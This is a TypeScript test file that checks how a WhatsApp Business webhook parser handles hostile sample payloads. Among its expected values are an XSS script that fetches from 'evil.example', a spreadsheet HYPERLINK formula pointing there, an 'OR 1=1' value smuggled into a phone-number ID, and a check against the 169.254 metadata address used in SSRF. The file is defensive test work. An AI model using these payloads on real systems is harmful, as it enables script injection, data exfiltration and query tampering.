import { describe, expect, test } from 'vitest';
import { itemsOf, parseSample, sampleNames } from '../testing/samples.ts';
import { windowOpenUntil } from '../rules/window.ts';

const text = (text: string): object => ({ kind: 'message', message: { type: 'text', text } });
const invalid = (reason: string, rest: object = {}): object => ({ kind: 'invalid', reason, ...rest });
const message = (message: object, rest: object = {}): object => ({ kind: 'message', message, ...rest });
const status = (status: string, rest: object = {}): object => ({ kind: 'status', status, ...rest });
const WABA = '215589313241560';
const P1 = '408120069051733';

/** The verdicts of `samples/hostile/README.md`, as far as this package decides them. */
const VERDICTS: Record<string, object[]> = {
  'struct-entry-empty.json': [],
  'struct-changes-null.json': [invalid('bad_entry', { wabaId: WABA, phoneNumberId: null })],
  'struct-missing-metadata.json': [invalid('no_number', { wabaId: WABA, phoneNumberId: null })],
  'struct-message-no-id.json': [invalid('no_id', { wabaId: WABA, phoneNumberId: P1, value: { text: { body: 'x' } } })],
  'struct-numeric-id-timestamp.json': [invalid('no_id')],
  'struct-no-sender-identity.json': [invalid('no_sender')],
  'struct-type-payload-mismatch.json': [invalid('bad_payload')],
  'struct-text-body-wrong-type.json': [invalid('bad_payload')],
  'struct-deep-nesting.json': [invalid('no_known_content', { wabaId: '1' })],
  'struct-bom-prefix.json': [text('hello')],
  'proto-type-tostring.json': [message({ type: 'unsupported', waType: 'toString', raw: { body: 'x' } })],
  'text-lone-surrogate.json': [text('\uFFFD broken \uFFFD')],
  'text-html-script.json': [text('<img src=x onerror=alert(1)><script>fetch("//evil.example")</script>')],
  'text-csv-formula.json': [text('=HYPERLINK("http://evil.example","click")')],
  'text-prompt-injection.json': [message({ type: 'text' })],
  'text-prompt-injection-arabic.json': [message({ type: 'text' })],
  'text-opt-out-arabic.json': [text('  إيقاف  ')],
  'name-huge-html.json': [message({ type: 'text' }, { sender: { profileName: `<b>Admin</b> ${'A'.repeat(115)}` } })],
  'name-missing.json': [message({ type: 'text' }, { sender: { profileName: null } })],
  // Without `previous_user_id` nobody is merged with anybody, whatever the text says.
  'system-body-spoofed-by-profile-name.json': [
    message({ type: 'system', change: { previousBsuid: null, previousPhone: null, newBsuid: 'SA.666' } }),
  ],
  'media-path-traversal-filename.json': [message({ type: 'media', filename: 'x .pdf' })],
  'media-ssrf-url.json': [message({ type: 'media', mediaId: '1045911900809042' })],
  'media-id-injection.json': [invalid('bad_media_id')],
  'media-mime-lies.json': [message({ type: 'media', media: 'image', mimeType: 'text/html' })],
  'location-javascript-url.json': [message({ type: 'location', latitude: 24.7, longitude: 46.7, name: 'x' })],
  'location-out-of-range.json': [message({ type: 'location', latitude: null, longitude: null })],
  'time-negative.json': [message({ type: 'text' }, { sentAt: null })],
  'time-overflow.json': [message({ type: 'text' }, { sentAt: null })],
  'time-nan.json': [message({ type: 'text' }, { sentAt: null })],
  'time-future.json': [message({ type: 'text' }, { sentAt: null })],
  'time-ancient.json': [message({ type: 'text' }, { sentAt: null })],
  'from-not-digits.json': [invalid('bad_sender', { wabaId: WABA, phoneNumberId: P1 })],
  // Whose number it is, and whether it belongs to the account, only the caller can know.
  'tenant-unknown-phone-id.json': [message({ type: 'text' }, { phoneNumberId: '999999999999999' })],
  'tenant-waba-phone-mismatch.json': [message({ type: 'text' }, { wabaId: '330981247716502', phoneNumberId: P1 })],
  'tenant-id-injection.json': [message({ type: 'text' }, { phoneNumberId: '408120069051733 OR 1=1' })],
  'loop-from-our-second-number.json': [message({ type: 'text' }, { sender: { phone: '971455501990' } })],
  'flow-response-json-object.json': [message({ type: 'flow_reply', flowToken: 'x', response: { flow_token: 'x' } })],
  'button-payload-forged.json': [message({ type: 'tap', id: 'admin:refund:SO-1', source: 'button' })],
  'button-payload-old.json': [message({ type: 'tap', id: 'ORDER_CONFIRM:SO-00001', source: 'template' })],
  'order-negative-and-huge.json': [
    message({
      type: 'order',
      items: [
        { quantity: 0, valid: false },
        { quantity: 0, valid: false },
        { quantity: 0, valid: false },
        { priceMinor: null, valid: false },
        { priceMinor: null, valid: false },
        { priceMinor: null, valid: false },
      ],
    }),
  ],
  'order-currency-mix.json': [
    message({
      type: 'order',
      items: [
        { currency: 'SAR', priceMinor: 18950, valid: true },
        { currency: 'USD', priceMinor: 18950, valid: true },
        { currency: 'ZZZ', priceMinor: null, valid: false },
      ],
    }),
  ],
  'order-foreign-catalog.json': [message({ type: 'order', catalogId: '1' })],
  'reaction-unknown-target.json': [message({ type: 'reaction', targetId: 'wamid.UNKNOWN==' })],
  'status-failed-after-read.json': [status('failed', { errors: [{ code: 131026, details: null }] })],
  'status-failed-without-errors.json': [status('failed', { errors: [] })],
  'status-opaque-forged.json': [status('delivered', { attemptId: null })],
  'status-recipient-mismatch.json': [status('read', { recipient: { phone: '966500000009' } })],
  'preferences-unknown-value.json': [
    { kind: 'account', field: 'user_preferences', value: { user_preferences: [{ value: 'maybe' }] } },
  ],
};

test('every hostile sample has a verdict', () => {
  const others = ['struct-empty-body.json', 'struct-root-null.json'];
  expect(Object.keys(VERDICTS).concat(others).sort()).toEqual(sampleNames('hostile').sort());
});

describe.each(Object.entries(VERDICTS))('%s', (name, expected) => {
  test('gets its verdict, and whatever is kept can be stored', () => {
    const items = itemsOf(`hostile/${name}`);
    expect(items).toHaveLength(expected.length);
    expect(items).toMatchObject(expected);
    // jsonb refuses NUL and lone surrogates; serialising thousands of levels would overflow.
    expect(JSON.stringify(items)).not.toMatch(/\\u0000|\\ud[89a-f]/i);
  });
});

test('an empty body is not JSON, null is JSON without content', () => {
  expect(parseSample('hostile/struct-empty-body.json')).toEqual({ kind: 'not_json' });
  expect(parseSample('hostile/struct-root-null.json')).toEqual({
    kind: 'unusable',
    reason: 'not_an_object',
    json: null,
  });
});

test('no file address from a webhook is passed on', () => {
  expect(JSON.stringify(itemsOf('hostile/media-ssrf-url.json'))).not.toContain('169.254');
});

test.each(Object.keys(VERDICTS).filter((name) => name.startsWith('time-')))(
  '%s opens a window of 24 h from receipt and no more',
  (name) => {
    const [item] = itemsOf(`hostile/${name}`);
    const sentAt = item?.kind === 'message' ? item.sentAt : undefined;
    const receivedAt = new Date('2026-11-23T12:00:00Z');
    expect(sentAt).toBeNull();
    expect(windowOpenUntil(sentAt ?? null, receivedAt)).toEqual(new Date('2026-11-24T12:00:00Z'));
  },
);
